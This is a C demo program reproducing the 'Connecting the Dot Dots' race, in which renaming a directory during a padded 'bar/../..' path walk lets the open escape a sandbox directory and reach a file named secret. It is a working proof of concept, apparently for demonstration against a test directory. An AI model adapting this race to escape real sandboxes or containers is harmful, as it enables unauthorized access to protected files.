/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The race of "Connecting the Dot Dots", for `make demo`: one process opens "bar/../.." from the
 * directory foo, which by its text ends in sandbox, while another renames bar from foo to sandbox
 * and back. If the rename falls into the walk, the second ".." starts in sandbox and leaves it.
 *
 *   dotdot DIR SECONDS    DIR holds sandbox/foo/bar, and above sandbox a file named secret
 *
 * Prints how many opens there were and how many of them reached the secret.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum {
	PAD = 1000, /* "./" between the two halves: a longer walk gives the rename more time */
};

static void
rename_forever(int foo, int sandbox)
{
	for (;;) {
		renameat(foo, "bar", sandbox, "bar");
		renameat(sandbox, "bar", foo, "bar");
	}
}

int
main(int argc, char **argv)
{
	char path[PAD * 2 + 16] = "bar/";
	unsigned long opens = 0;
	unsigned long wins = 0;
	time_t end;
	pid_t child;
	int sandbox;
	int foo;

	if (argc != 3 || chdir(argv[1]) < 0) {
		fprintf(stderr, "usage: dotdot DIR SECONDS\n");
		return 2;
	}
	sandbox = open("sandbox", O_PATH | O_DIRECTORY | O_CLOEXEC);
	foo = open("sandbox/foo", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (sandbox < 0 || foo < 0) {
		perror("dotdot: sandbox/foo");
		return 2;
	}
	for (int i = 0; i < PAD; i++)
		strcat(path, "./");
	strcat(path, "../..");
	child = fork();
	if (child == 0)
		rename_forever(foo, sandbox);
	end = time(NULL) + atoi(argv[2]);
	while (child > 0 && time(NULL) < end) {
		int fd = openat(foo, path, O_PATH | O_CLOEXEC);
		struct stat st;

		opens++;
		if (fd < 0)
			continue;
		if (fstatat(fd, "secret", &st, AT_SYMLINK_NOFOLLOW) == 0)
			wins++;
		close(fd);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	renameat(sandbox, "bar", foo, "bar");
	printf("%lu opens, %lu reached the secret\n", opens, wins);
	return 0;
}
